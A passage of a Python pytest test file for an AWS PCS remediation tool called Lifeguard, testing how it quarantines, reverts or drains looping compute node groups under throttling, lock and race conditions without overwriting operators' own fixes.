    return world.remediator(), suspecting


def test_a_revert_that_found_nothing_proven_good_is_still_the_reverts_step_of_the_ladder() -> None:
    """With no proven-good configuration a revert quarantines instead; if the loop goes on after it, the
    next step is a person, not one more quarantine of one more script."""
    world = World()
    remediator, suspecting = _three_scripts(world)

    remediator.handle_event(suspecting(1, "fail-terminate"))
    world.settle()
    [second] = remediator.handle_event(suspecting(2, "record-after-fail"))
    assert second.detail_type == "RemediationApplied"
    assert "no proven-good configuration is known: quarantined instead" in second.detail["reason"]
    world.settle()
    [third] = remediator.handle_event(suspecting(3, "third-script"))
    assert third.detail_type == "RemediationSkipped"
    assert "a person must look" in third.detail["reason"]
    ledger = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP)
    assert [c.action for c in ledger.changes] == ["quarantine", "quarantine"]


def _quarantined() -> tuple[World, Remediator]:
    """The group quarantined by a remediation, which has ended (its lock released)."""
    world = World()
    remediator = world.remediator()
    remediator.handle_event(world.detection())
    world.settle()
    return world, remediator


def test_the_undo_lock_holds_off_a_remediation_when_the_operators_clock_is_behind(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    world, remediator = _quarantined()
    monkeypatch.setattr(operate.time, "time", lambda: world.now() - 300)  # five minutes behind
    taken: list[bool] = []
    get = world.api.get_compute_node_group

    def read_while_a_remediation_starts(**params: Any) -> Any:
        if not taken:
            taken.append(remediator.store.acquire(CLUSTER, GROUP, "remediation", world.now(), 600))
        return get(**params)

    world.api.get_compute_node_group = read_while_a_remediation_starts
    operator = world.operator()
    operator.undo(GROUP, CLUSTER)
    assert taken == [False]
    assert world.group()["nodeLifecycleActions"] == TERMINATE


def test_the_undo_does_not_take_a_running_remediations_lock_when_the_operators_clock_is_ahead(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    world, _ = _quarantined()
    store = RemediationStore(world.table, TABLE)
    assert store.acquire(CLUSTER, GROUP, "remediation", world.now(), 60)  # an invocation's last minute
    monkeypatch.setattr(operate.time, "time", lambda: world.now() + 90)  # ninety seconds ahead
    operator = world.operator()
    with pytest.raises(OperatorError, match="is running"):
        operator.undo(GROUP, CLUSTER)
    assert world.group()["nodeLifecycleActions"] == QUARANTINED


def test_an_undo_whose_lock_a_remediation_took_over_meanwhile_changes_nothing() -> None:
    world, remediator = _quarantined()
    get = world.api.get_compute_node_group

    def read_while_the_lease_runs_out(**params: Any) -> Any:
        world.table.delete_item(TableName=TABLE, Key=RemediationStore._key(CLUSTER, GROUP, "LOCK"))
        assert remediator.store.acquire(CLUSTER, GROUP, "remediation", world.now(), 600)
        return get(**params)

    world.api.get_compute_node_group = read_while_the_lease_runs_out
    operator = world.operator()
    with pytest.raises(OperatorError, match="took the group over while the undo read it"):
        operator.undo(GROUP, CLUSTER)
    assert world.group()["nodeLifecycleActions"] == QUARANTINED
    assert [c.action for c in RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes] == [
        "quarantine"
    ]


# PCS's conflict and throttling, and a front end's throttling (HTTP 429) of a code PCS's model does not have.
@pytest.mark.parametrize("refusal", ["ConflictException", "ThrottlingException", "TooManyRequestsException"])
def test_a_change_pcs_refused_every_time_is_let_go_and_counts_for_no_rail(refusal: str) -> None:
    """Six conflicts (or throttles) let the change go within the invocation, but the intent stayed pending:
    the Lambda's retry, after the owner mended the group, recorded it as a change "PCS may have made", and
    the next episode was refused by a cooldown for a change PCS never took."""
    world = World()
    remediator = world.remediator(cooldown_seconds=1800)
    event = world.detection("ep-1")
    world.pcs.inject_fault(refusal, operation="UpdateComputeNodeGroup", times=6)
    with pytest.raises(RemediationParkedError):
        remediator.handle_event(event)
    assert world.lifeguard_updates() == []
    [change] = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes
    assert change.status == "abandoned"  # PCS refused every attempt: nothing was changed
    world.person_sets(GOOD)
    world.clock.advance(60)
    [retried] = remediator.handle_event(event)
    assert retried.detail_type == "RemediationSkipped"
    assert "may have made it" not in retried.detail["reason"]
    world.person_sets(TERMINATE)  # the failing script again, and a new loop
    world.clock.advance(300)
    [second] = remediator.handle_event(world.detection("ep-2"))
    assert second.detail_type == "RemediationApplied", second.detail["reason"]


def test_a_hand_fix_made_while_lifeguard_waits_to_read_the_tags_is_never_overwritten() -> None:
    """The group is read, then its tags: a throttled ListTagsForResource waited on PCS's retryAfterSeconds
    while the owner mended the group, and the first UpdateComputeNodeGroup, checked against nothing, put
    the failing script back under the quarantine (and told of a one-field diff that never happened)."""
    world = World()
    event = world.detection()
    world.pcs.inject_fault(
        "ThrottlingException", operation="ListTagsForResource", times=1, retry_after_seconds=30
    )
    sleep, fixed = world.sleep, []

    def sleep_while_the_owner_mends_it(seconds: float) -> None:
        sleep(seconds)
        if not fixed:
            fixed.append(seconds)
            world.person_sets(GOOD)  # and PCS has made it (ACTIVE) before Lifeguard goes on

    world.sleep = sleep_while_the_owner_mends_it
    [answer] = world.remediator().handle_event(event)
    assert fixed == [30]
    assert answer.detail_type == "RemediationSkipped"
    assert "configuration changed while Lifeguard's quarantine waited" in answer.detail["reason"]
    world.settle()
    assert world.group()["nodeLifecycleActions"] == GOOD
    assert world.lifeguard_updates() == []


def a_node_boots_clean(world: World) -> None:
    """The scaling_events function ends the open episode: a node booted clean (LoopResolved)."""
    state = world.store.load(CLUSTER, GROUP)
    assert state.episode is not None
    state.episode.resolved_at, state.episode.resolved_by = int(world.now() * 1000), "i-0fffffffffffffff1"
    state.last_episode, state.episode = state.episode, None
    world.store.save(state)


@pytest.mark.parametrize("mode", ["quarantine", "revert"])
def test_a_loop_that_ended_while_lifeguard_waited_is_not_changed_after_all(mode: str) -> None:
    # PCS throttles the tag read (many groups looping at once); meanwhile a node boots clean and the
    # scaling_events function ends the episode (LoopResolved). The group, untouched by anyone, was
    # quarantined (or reverted) all the same, after its loop had ended.
    world = World(tags={"lifeguard:mode": mode})
    world.prove_good(GOOD)
    event = world.detection()
    waited = _in_the_backoff(world, "ListTagsForResource", a_node_boots_clean)
    [answer] = world.remediator().handle_event(event)
    assert waited
    assert answer.detail_type == "RemediationSkipped"
    assert answer.detail["reason"].startswith("Not made (it changed while Lifeguard waited): episode ")
    assert "nothing was changed" in answer.detail["reason"]
    assert world.group()["nodeLifecycleActions"] == TERMINATE
    assert world.lifeguard_updates() == []


def _in_the_backoff(world: World, operation: str, meanwhile: Callable[[World], None]) -> list[float]:
    """PCS throttles `operation` twice (a minute's retryAfterSeconds each, many groups looping at once);
    `meanwhile` happens in the first wait. The waits are returned as they come."""
    world.pcs.inject_fault("ThrottlingException", operation=operation, times=2, retry_after_seconds=60)
    sleep, waited = world.sleep, []

    def sleep_while(seconds: float) -> None:
        sleep(seconds)
        if not waited:
            meanwhile(world)
        waited.append(seconds)

    world.sleep = sleep_while
    return waited


def test_a_loop_that_ended_while_the_update_was_throttled_is_not_changed_after_all() -> None:
    """The state and the tags were read once, before the update's first attempt: PCS's backoff (minutes, at
    worst) left a loop ended meanwhile (a node booted clean) changed all the same, told as applied."""
    world = World()
    event = world.detection()
    waited = _in_the_backoff(world, "UpdateComputeNodeGroup", a_node_boots_clean)
    [answer] = world.remediator().handle_event(event)
    assert waited == [60]
    assert answer.detail_type == "RemediationSkipped"
    assert (
        answer.detail["reason"]
        == "The episode ended before Lifeguard's quarantine could be made; nothing was changed."
    )
    assert world.group()["nodeLifecycleActions"] == TERMINATE
    assert world.lifeguard_updates() == []


@pytest.mark.parametrize(("tag", "says"), [("off", "tag lifeguard:mode is off"), ("notify", "mode notify")])
def test_a_group_tagged_off_or_notify_while_the_update_was_throttled_is_not_changed(
    tag: str, says: str
) -> None:
    """An operator taking the group over (its tag set to off, or notify) while PCS throttled the update had it
    changed all the same, the tag unheeded and unsaid."""
    world = World()
    event = world.detection()

    def tagged(world: World) -> None:
        world.api.tag_resource(resourceArn=world.group()["arn"], tags={"lifeguard:mode": tag})

    _in_the_backoff(world, "UpdateComputeNodeGroup", tagged)
    [answer] = world.remediator().handle_event(event)
    assert answer.detail_type == "RemediationSkipped"
    assert says in answer.detail["reason"]
    assert world.group()["nodeLifecycleActions"] == TERMINATE
    assert world.lifeguard_updates() == []


def test_one_change_is_audited_once_when_its_decision_could_not_be_written_the_first_time() -> None:
    # The decision's write is throttled: Lambda's retry finds no decision, reconciles the change (made) and
    # audited it a second time, so `lifeguard history` showed one change applied twice.
    world = World()
    remediator = world.remediator()
    event = world.detection()
    with first_write_throttled(world, "DECISION#") as failed, pytest.raises(AwsCallError):
        remediator.handle_event(event)
    assert failed
    world.clock.advance(60)
    remediator.handle_event(event)  # Lambda's retry of the same event
    assert len(world.lifeguard_updates()) == 1
    assert [(e.decision, e.episode_id, e.action) for e in world.history()] == [
        ("applied", "ep-1", "quarantine")
    ]
    assert [detail_type for detail_type, _ in world.bus.events()] == ["RemediationApplied"]


@pytest.mark.parametrize("mode", ["quarantine", "revert"])
def test_a_loop_that_ended_while_lifeguard_read_the_group_is_not_changed_after_all(mode: str) -> None:
    # No wait this time: the episode ends (a node booted clean) while Lifeguard reads the group's tags.
    world = World(tags={"lifeguard:mode": mode})
    world.prove_good(GOOD)
    event = world.detection()
    list_tags, ended = world.api.list_tags_for_resource, []

    def tags_read_while_a_node_boots_clean(**params: Any) -> Any:
        if not ended:
            a_node_boots_clean(world)
            ended.append(True)
        return list_tags(**params)

    world.api.list_tags_for_resource = tags_read_while_a_node_boots_clean
    [answer] = world.remediator().handle_event(event)
    assert ended
    assert answer.detail_type == "RemediationSkipped"
    assert answer.detail["reason"].startswith(
        "Not made (it changed while Lifeguard read the group): episode "
    )
    assert world.group()["nodeLifecycleActions"] == TERMINATE
    assert world.lifeguard_updates() == []


def _while_lifeguard_reads_the_tags(world: World, change: Callable[[GroupState], None]) -> list[bool]:
    """Make `change` to the group's state (as node reports do, in another invocation) while the
    remediator reads the group's tags, once; the list says it was made."""
    list_tags, made = world.api.list_tags_for_resource, []

    def tags(**params: Any) -> Any:
        if not made:
            state = world.store.load(CLUSTER, GROUP)
            change(state)
            world.store.save(state)
            made.append(True)
        return list_tags(**params)

    world.api.list_tags_for_resource = tags
    return made


def test_a_suspect_withdrawn_while_lifeguard_read_the_group_is_not_the_one_switched() -> None:
    # node_reports withdraws the suspect (its nodes report a second TERMINATE script failed: one report was
    # another node's) while the remediator reads the group. The change is planned again on the state as it is
    # now: every TERMINATE script is switched, not the withdrawn suspect alone.
    world = World()
    event = world.detection()

    def withdrawn(state: GroupState) -> None:
        assert state.episode is not None
        assert state.episode.suspect is not None
        state.episode.suspect = None
        state.episode.revision += 1

    made = _while_lifeguard_reads_the_tags(world, withdrawn)
    [answer] = world.remediator().handle_event(event)
    assert made
    assert answer.detail_type == "RemediationApplied"
    assert answer.detail["suspect"] is None
    bootstrapped = world.group()["nodeLifecycleActions"]["stages"]["nodeBootstrapped"]
    assert [script.get("onError") for script in bootstrapped] == ["STOP_SEQUENCE", "STOP_SEQUENCE"]


def test_a_proof_revoked_while_lifeguard_read_the_group_is_not_reverted_to() -> None:
    # The proving node's late report shows a script failed: node_reports revokes the proof while the
    # remediator reads the group. It does not revert to a configuration its state no longer holds good.
    world = World(tags={"lifeguard:mode": "revert"})
    world.prove_good(GOOD)
    event = world.detection()

    def revoked(state: GroupState) -> None:
        state.proven_good = None

    made = _while_lifeguard_reads_the_tags(world, revoked)
    [answer] = world.remediator().handle_event(event)
    assert made
    assert world.group()["nodeLifecycleActions"] == QUARANTINED
    assert answer.detail["action"] == "quarantine"
    assert "no proven-good configuration is known: quarantined instead" in answer.detail["reason"]


def _changing_at_every_read(world: World, change: Callable[[GroupState, int], None]) -> None:
    """Every read of the group's state after the first finds `change` made to it (given the read's
    number), as node reports landing between each read and the next."""
    load, loads = world.store.load, [0]

    def moving(cluster_id: str, group_id: str) -> GroupState:
        state = load(cluster_id, group_id)
        loads[0] += 1
        if loads[0] > 1:
            change(state, loads[0])
        return state

    world.store.load = moving  # type: ignore[method-assign]


def test_a_state_that_keeps_changing_while_lifeguard_plans_is_left_to_the_retry() -> None:
    world = World()
    event = world.detection()

    def another_script_failing(state: GroupState, read: int) -> None:
        assert state.episode is not None
        state.episode.also_failing = [f"nodeReady/check-{read}"]

    _changing_at_every_read(world, another_script_failing)
    remediator = world.remediator()
    assert remediator.states is world.store
    with pytest.raises(RemediationParkedError):
        remediator.handle_event(event)
    [(detail_type, detail)] = [(t, d) for t, d in world.bus.events() if t.startswith("Remediation")]
    assert detail_type == "RemediationFailed"
    assert detail["reason"] == (
        "Not made (it changed while Lifeguard read the group): the episode's suspect or proven-good "
        "configuration kept changing; the event is parked for a retry"
    )
    assert world.group()["nodeLifecycleActions"] == TERMINATE
    del world.store.load  # the retry reads the table as it is
    [retried] = world.remediator().handle_event(event)  # Lambda's retry decides again
    assert retried.detail_type == "RemediationApplied"


def test_more_nodes_failing_on_the_suspect_while_lifeguard_plans_change_no_plan() -> None:
    # Every node that fails on the same script adds to the suspect's evidence (not announced again): the
    # plan is the same, and is made.
    world = World()
    event = world.detection()

    def one_more_node(state: GroupState, read: int) -> None:
        assert state.episode is not None
        suspect = state.episode.suspect
        assert suspect is not None
        suspect.instances = [*suspect.instances, f"i-0a1b2c3d4e5f6{read:04d}"]

    _changing_at_every_read(world, one_more_node)
    [answer] = world.remediator().handle_event(event)
    assert answer.detail_type == "RemediationApplied"
    assert world.group()["nodeLifecycleActions"] == QUARANTINED


def test_with_no_wait_after_the_read_the_change_is_made_on_it_without_reading_again() -> None:
    world = World()
    [answer] = world.remediator().handle_event(world.detection())
    assert answer.detail_type == "RemediationApplied"
    operations = [c.operation for c in world.pcs.calls]
    assert operations[-3:] == ["GetComputeNodeGroup", "ListTagsForResource", "UpdateComputeNodeGroup"]


def test_a_hand_fix_made_while_lifeguard_waits_to_retry_its_change_is_never_overwritten() -> None:
    world = World()
    event = world.detection()
    world.pcs.inject_fault(
        "ThrottlingException", operation="UpdateComputeNodeGroup", times=1, retry_after_seconds=60
    )
    sleep, fixed = world.sleep, []

    def sleep_while_the_owner_mends_it(seconds: float) -> None:
        if not fixed:
            fixed.append(seconds)
            world.api.update_compute_node_group(
                clusterIdentifier=CLUSTER, computeNodeGroupIdentifier=GROUP, nodeLifecycleActions=GOOD
            )
        sleep(seconds)

    world.sleep = sleep_while_the_owner_mends_it
    [answer] = world.remediator().handle_event(event)
    assert fixed == [60]  # PCS's retryAfterSeconds, honoured
    assert answer.detail_type == "RemediationSkipped"
    assert "changed while Lifeguard's quarantine waited to be retried" in answer.detail["reason"]
    world.settle()
    assert world.group()["nodeLifecycleActions"] == GOOD
    assert world.lifeguard_updates() == []
    [change] = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes
    assert change.status == "abandoned"


@pytest.mark.parametrize("throttled", ["UpdateComputeNodeGroup", "ListTagsForResource"])
def test_a_fix_outside_the_lifecycle_actions_made_while_lifeguard_waits_is_not_changed_after_all(
    throttled: str,
) -> None:
    """A new AMI (a launch template, an instance profile) mends the loop as well: a change of the group
    since the detection keeps Lifeguard's hands off at its first read, and while it waited on PCS's
    backoff it did not: the owner's mended group was quarantined and drained once more."""
    world = World()
    event = world.detection()
    world.pcs.inject_fault("ThrottlingException", operation=throttled, times=1, retry_after_seconds=60)
    sleep, fixed = world.sleep, []

    def sleep_while_the_owner_moves_to_a_new_ami(seconds: float) -> None:
        if not fixed:
            fixed.append(seconds)
            world.clock.advance(5)
            world.api.update_compute_node_group(
                clusterIdentifier=CLUSTER, computeNodeGroupIdentifier=GROUP, amiId="ami-0fixed0000000000a"
            )
            world.settle()  # PCS made it (ACTIVE) before Lifeguard goes on
        sleep(seconds)

    world.sleep = sleep_while_the_owner_moves_to_a_new_ami
    [answer] = world.remediator().handle_event(event)
    assert fixed == [60]
    assert answer.detail_type == "RemediationSkipped", answer.detail["reason"]
    assert "waited" in answer.detail["reason"]
    assert world.group()["amiId"] == "ami-0fixed0000000000a"
    assert world.group()["nodeLifecycleActions"] == TERMINATE
    assert world.lifeguard_updates() == []


def test_a_hand_fix_made_after_an_attempt_pcs_may_have_taken_leaves_the_change_unconfirmed() -> None:
    """The first attempt's answer is lost (PCS took it); while Lifeguard waits to retry, the owner changes
    the group: their change stays, and Lifeguard's, which PCS did make, still counts."""
    world = World()
    event = world.detection()
    update, sleep, fixed = world.api.update_compute_node_group, world.sleep, []

    def taken_but_answer_lost(**params: Any) -> Any:
        world.api.update_compute_node_group = update
        update(**params)
        raise ReadTimeoutError(endpoint_url="https://pcs.us-east-1.amazonaws.com")

    def sleep_while_the_owner_mends_it(seconds: float) -> None:
        if not fixed:
            fixed.append(seconds)
            world.settle()  # Lifeguard's update is over
            world.api.update_compute_node_group(
                clusterIdentifier=CLUSTER, computeNodeGroupIdentifier=GROUP, nodeLifecycleActions=GOOD
            )
        sleep(seconds)

    world.api.update_compute_node_group = taken_but_answer_lost
    world.sleep = sleep_while_the_owner_mends_it  # type: ignore[method-assign]
    [answer] = world.remediator(cooldown_seconds=1800).handle_event(event)
    assert answer.detail_type == "RemediationSkipped"
    assert (
        "changed while Lifeguard's quarantine waited to be retried: PCS may have made it"
        in (answer.detail["reason"])
    )
    world.settle()
    assert world.group()["nodeLifecycleActions"] == GOOD
    [change] = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes
    assert change.status == "unconfirmed"
    world.person_sets(TERMINATE)
    [later] = world.remediator(cooldown_seconds=1800).handle_event(world.detection("ep-2"))
    assert later.detail["reason"].startswith("Cooldown: Lifeguard changed this group")


def _answered(code: str, status: int) -> Exception:
    """A ClientError of an answer of HTTP `status`."""
    error = client_error(code, "UpdateComputeNodeGroup")
    error.response["ResponseMetadata"] = {"HTTPStatusCode": status}
    return error


# PCS's own 5xx, and a front end's (a gateway timeout with an HTML body, which botocore names by its status;
# AWS's InternalFailure and ServiceUnavailable; a code Lifeguard does not know, of a 5xx answer); a TLS
# connection cut while the answer was read.
@pytest.mark.parametrize(
    "lost_by",
    [
        lambda: client_error("InternalServerException", "UpdateComputeNodeGroup"),
        lambda: client_error("504", "UpdateComputeNodeGroup"),
        lambda: _answered("InternalFailure", 500),
        lambda: _answered("ServiceUnavailable", 503),
        lambda: _answered("SomeNewServerError", 502),
        lambda: SSLError(endpoint_url="https://pcs", error="EOF occurred in violation of protocol"),
    ],
    ids=[
        "InternalServerException",
        "504",
        "InternalFailure",
        "ServiceUnavailable",
        "unknown-502",
        "SSLError",
    ],
)
def test_a_retried_change_whose_first_answer_was_lost_is_taken_as_made_not_as_someone_elses(
    lost_by: Callable[[], Exception],
) -> None:
    world = World()
    update, calls = world.api.update_compute_node_group, []

    def taken_then_answer_lost(**params: Any) -> Any:
        calls.append(params)
        answer = update(**params)
        if len(calls) == 1:
            raise lost_by()
        return answer

    world.api.update_compute_node_group = taken_then_answer_lost
    [answer] = world.remediator().handle_event(world.detection())
    assert answer.detail_type == "RemediationApplied"
    assert len(calls) == 1  # the retry found the group holding it: not asked again
    [change] = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes
    assert (change.action, change.status) == ("quarantine", "applied")


@pytest.mark.parametrize("lifeguard_waited_on", ["its update refused for a conflict", "a throttled tag read"])
def test_a_persons_fix_equal_to_lifeguards_change_made_while_it_waited_is_theirs_not_lifeguards(
    lifeguard_waited_on: str,
) -> None:
    """The manual fix of a loop is Lifeguard's quarantine: the script switched to STOP_SEQUENCE. An operator
    who makes it while Lifeguard waits (their update holds the group UPDATING, so PCS refuses Lifeguard's
    with a conflict; or a retry of a tag read) left the group holding what Lifeguard wanted. That was taken
    as Lifeguard's own attempt, its answer lost: RemediationApplied with an undo, counted by the rails, and
    `lifeguard undo` without --force put the looping configuration back over the person's fix. With no
    attempt PCS may have taken, it is the person's change: skipped, nothing to undo."""
    world = World()
    detection = world.detection()
    tags, update = world.api.list_tags_for_resource, world.api.update_compute_node_group

    def person_fixes() -> None:
        update(
            clusterIdentifier=CLUSTER,
            computeNodeGroupIdentifier=GROUP,
            nodeLifecycleActions=copy.deepcopy(QUARANTINED),
        )

    def tags_then_a_person_fixes(**params: Any) -> Any:
        world.api.list_tags_for_resource = tags
        if lifeguard_waited_on == "a throttled tag read":
            person_fixes()
            raise client_error("ThrottlingException", "ListTagsForResource")
        answer = tags(**params)
        person_fixes()  # the group is UPDATING when Lifeguard's update comes: a conflict
        return answer

    world.api.list_tags_for_resource = tags_then_a_person_fixes
    [event] = world.remediator().handle_event(detection)
    assert world.lifeguard_updates() == []
    assert event.detail_type == "RemediationSkipped"
    assert event.detail["undo"] is None
    assert "someone else set the group to the configuration it would have set" in event.detail["reason"]
    [change] = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes
    assert (change.action, change.status) == ("quarantine", "abandoned")
    world.settle()
    with pytest.raises(OperatorError, match="no change of"):
        world.operator().undo(GROUP, CLUSTER)
    assert world.group()["nodeLifecycleActions"] == QUARANTINED


def test_a_configuration_too_large_to_keep_for_the_undo_is_not_changed() -> None:
    """PCS takes about 700 KB of lifecycle actions (40 scripts of 20 arguments of 256 characters): one that
    large cannot be kept in the ledger for an undo, nor in the audit trail, so it is not changed at all."""
    rng = random.Random(7)

    def text(count: int) -> str:
        return "".join(chr(0x4E00 + rng.randrange(20000)) for _ in range(count))  # hard to compress

    def script(stage: str, index: int) -> dict[str, Any]:
        return {
            "name": f"{stage[:5]}-{index}",
            "scriptSource": {"scriptLocation": f"s3://bucket-x/scripts/{index}.sh"},
            "arguments": [text(256) for _ in range(20)],
            "onError": "TERMINATE",
        }

    big = {
        "stages": {
            stage: [script(stage, i) for i in range(20)] for stage in ("nodeBootstrapped", "nodeReady")
        }
    }
    assert find_problems(big) == []  # PCS would take it
    world = World(tags={"lifeguard:mode": "revert"})
    world.prove_good(GOOD)
    resource = next(r for r in world.pcs._resources.values() if r.id == GROUP)
    resource.spec["nodeLifecycleActions"] = copy.deepcopy(big)
    [skipped] = world.remediator().handle_event(world.detection())
    assert skipped.detail_type == "RemediationSkipped"
    assert re.fullmatch(
        r"the group's configuration takes \d+ KiB stored, more than the 64 KiB Lifeguard keeps to undo a "
        r"change; nothing is changed",
        skipped.detail["reason"],
    )
    assert world.group()["nodeLifecycleActions"] == big
    assert world.calls("UpdateComputeNodeGroup") == []
    assert [entry.decision for entry in world.history()] == ["skipped"]


def test_a_group_deleted_since_the_detection_is_skipped_with_a_reason() -> None:
    world = World()
    event = world.detection()
    world.api.delete_compute_node_group(clusterIdentifier=CLUSTER, computeNodeGroupIdentifier=GROUP)
    [skipped] = world.remediator().handle_event(event)
    assert skipped.detail_type == "RemediationSkipped"
    assert skipped.detail["reason"] == "the compute node group no longer exists"
    assert world.calls("UpdateComputeNodeGroup") == []


@pytest.mark.parametrize(
    ("tag", "stack_drains", "drained"),
    [
        (None, False, False),  # DrainKeptNodes off, nothing said by the group: no drain step
        (None, True, True),
        ("true", False, True),  # the group asks for it
        ("false", True, False),  # the group opts out
        ("maybe", True, True),  # a bad tag is ignored (and logged): the stack's default stands
    ],
)
def test_the_drain_step_is_the_stack_s_choice_unless_the_group_s_tag_says_otherwise(
    tag: str | None, stack_drains: bool, drained: bool
) -> None:
    world = World(tags={"lifeguard:drain": tag} if tag is not None else None)
    bundle = NodeBundle("s3://bundles/lifeguard/lifeguard-node.pyz", "v1", "a" * 64)
    [event] = world.remediator(node_bundle=bundle, drain_kept_nodes=stack_drains).handle_event(
        world.detection()
    )
    assert event.detail_type == "RemediationApplied"
    ready = [
        script["name"] for script in world.group()["nodeLifecycleActions"]["stages"].get("nodeReady", [])
    ]
    assert ("lifeguard-drain" in ready) is drained


def replacement_after_drain(world: World, *, drained: bool) -> dict[str, Any]:
    """Lifeguard quarantined the loop (with its drain step when `drained`), then PCS replaced the kept,
    drained nodes as unhealthy: the scaling_events handler has opened the replacement revision."""
    bundle = NodeBundle("s3://bundles/lifeguard/lifeguard-node.pyz", "v1", "a" * 64)
    [applied] = world.remediator(node_bundle=bundle, drain_kept_nodes=drained).handle_event(world.detection())
    assert applied.detail_type == "RemediationApplied"
    world.settle()
    event = world.detection(revision=2)
    state = world.store.load(CLUSTER, GROUP)
    assert state.episode is not None
    state.episode.replacement_revision = 2
    state.episode.unhealthy = [
        Failure(instance_id="i-0kept00000000000", event_timestamp=1792547000000),
        Failure(instance_id="i-0kept00000000001", event_timestamp=1792547400000),
    ]
    world.store.save(state)
    event["detail"]["kind"] = "replacement"
    return event


def test_a_replacement_loop_after_lifeguards_drain_step_takes_the_step_out_at_once() -> None:
    world = World()
    event = replacement_after_drain(world, drained=True)
    assert "lifeguard-drain" in [
        s["name"] for s in world.group()["nodeLifecycleActions"]["stages"]["nodeReady"]
    ]
    [answer] = world.remediator(cooldown_seconds=3600, daily_cap=1).handle_event(event)  # cooldown, cap
    assert (answer.detail_type, answer.detail["action"], answer.detail["kind"]) == (
        "RemediationApplied",
        "undrain",
        "replacement",
    )
    assert "took out Lifeguard's lifeguard-drain step" in answer.detail["reason"]
    assert "not held back by the cooldown" in answer.detail["reason"]
    assert [f["instance_id"] for f in answer.detail["failures"]] == [
        "i-0kept00000000000",
        "i-0kept00000000001",
    ]
    assert world.group()["nodeLifecycleActions"] == QUARANTINED  # the quarantine stays, the drain goes
    assert [c.action for c in RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes] == [
        "quarantine",
        "undrain",
    ]


def test_a_replacement_loop_of_nodes_whose_scripts_all_succeeded_keeps_the_drain_step_and_says_why() -> None:
    """The drain step drains a node only after a failed script: nodes replaced as unhealthy whose reports
    show every script succeeded were not drained by it. The step stays, nothing is changed, and the
    operator is sent to the nodes' health."""
    world = World()
    event = replacement_after_drain(world, drained=True)
    state = world.store.load(CLUSTER, GROUP)
    assert state.episode is not None
    state.episode.no_script_failed = True
    world.store.save(state)
    before = world.group()["nodeLifecycleActions"]
    [answer] = world.remediator().handle_event(event)
    assert (answer.detail_type, answer.detail["kind"]) == ("RemediationSkipped", "replacement")
    assert "drained none of them, so it stays. Look at the nodes' health" in answer.detail["reason"]
    assert world.group()["nodeLifecycleActions"] == before
    assert [c.action for c in RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes] == [
        "quarantine"
    ]


def test_a_drain_step_lifeguard_put_in_and_the_operator_undid_is_not_lifeguards_once_the_owners_add_one() -> (
    None
):
    """Lifeguard's quarantine put the drain step in and the operator undid it; the owners then added the
    step themselves: it is theirs, and a replacement loop does not make Lifeguard take it out."""
    from lifeguard.remediation.records import Ledger
    from lifeguard.remediation.remediator import _drain_step_is_lifeguards

    bundle = NodeBundle("s3://bundles/lifeguard/lifeguard-node.pyz", "v1", "a" * 64)
    drained = (
        Quarantine()
        .plan(ActionContext(TERMINATE, ("nodeBootstrapped", "fail-terminate"), node_bundle=bundle))
        .config_after
    )
    assert drained is not None
    assert drains_kept_nodes(drained)

    def made(**more: Any) -> AppliedChange:
        return AppliedChange(
            at=100.0,
            episode_id="ep-1",
            revision=1,
            action="quarantine",
            config_before=TERMINATE,
            config_after=drained,
            fingerprint_before=fingerprint_of(TERMINATE),
            fingerprint_after=fingerprint_of(drained),
            **more,
        )

    assert _drain_step_is_lifeguards(Ledger(changes=[made()]))
    assert not _drain_step_is_lifeguards(Ledger(changes=[made(undone_at=200.0)]))
    assert not _drain_step_is_lifeguards(Ledger(changes=[made(status="abandoned")]))


def test_a_replacement_loop_no_change_of_lifeguards_caused_changes_nothing() -> None:
    world = World()
    event = replacement_after_drain(world, drained=False)
    [answer] = world.remediator().handle_event(event)
    assert answer.detail_type == "RemediationSkipped"
    assert "no change of Lifeguard's drains them" in answer.detail["reason"]
    assert world.group()["nodeLifecycleActions"] == QUARANTINED
    assert len(world.lifeguard_updates()) == 1  # the quarantine only


def test_a_replacement_loop_of_a_drain_step_the_owners_added_is_not_lifeguards_to_take_out() -> None:
    world = World()
    [first] = world.remediator(cooldown_seconds=60, daily_cap=1).handle_event(world.detection("ep-1"))
    assert first.detail_type == "RemediationApplied"  # today's one change, without a drain step
    bundle = NodeBundle("s3://bundles/lifeguard/lifeguard-node.pyz", "v1", "a" * 64)
    context = ActionContext(TERMINATE, ("nodeBootstrapped", "fail-terminate"), node_bundle=bundle)
    theirs = Quarantine().plan(context).config_after
    assert drains_kept_nodes(theirs)
    world.person_sets(theirs)  # the owners' own template, drain step included
    event = world.detection("ep-2")
    state = world.store.load(CLUSTER, GROUP)
    assert state.episode is not None
    state.episode.kind, state.episode.replacement_revision = "replacement", 1
    state.episode.unhealthy = [
        Failure(instance_id=f"i-0kept0000000000{n}", event_timestamp=1792547000000 + n) for n in range(2)
    ]
    world.store.save(state)
    event["detail"]["kind"] = "replacement"
    [answer] = world.remediator(cooldown_seconds=60, daily_cap=1).handle_event(event)
    assert answer.detail_type == "RemediationSkipped"
    assert "no change of Lifeguard's drains them" in answer.detail["reason"]
    assert world.group()["nodeLifecycleActions"] == theirs


@pytest.mark.parametrize("tool", ["CloudFormation", "Terraform"])
def test_a_template_owners_note_gives_a_stage_whole_where_a_script_was_added(tool: str) -> None:
    """The note gave each change by its path's index: the drain step added at nodeReady[0] and the rest by
    their places in the new list, while the template holds the old one, so an owner who wrote the edits in
    as told overwrote their own first nodeReady script with the drain step."""
    tags = (
        {"aws:cloudformation:stack-name": "hpc-cluster"}
        if tool == "CloudFormation"
        else {"managed-by": "terraform:hpc/prod"}
    )
    world = World(tags=tags)
    bundle = NodeBundle("s3://bundles/lifeguard/lifeguard-node.pyz", "v1", "a" * 64)
    [event] = world.remediator(drain_kept_nodes=True, node_bundle=bundle).handle_event(world.detection())
    assert event.detail_type == "RemediationApplied"
    reason = event.detail["reason"]
    stage, field, sep = (
        (
            "NodeLifecycleActions.Stages.NodeReady: ",
            "NodeLifecycleActions.Stages.NodeBootstrapped[0].OnError",
            ": ",
        )
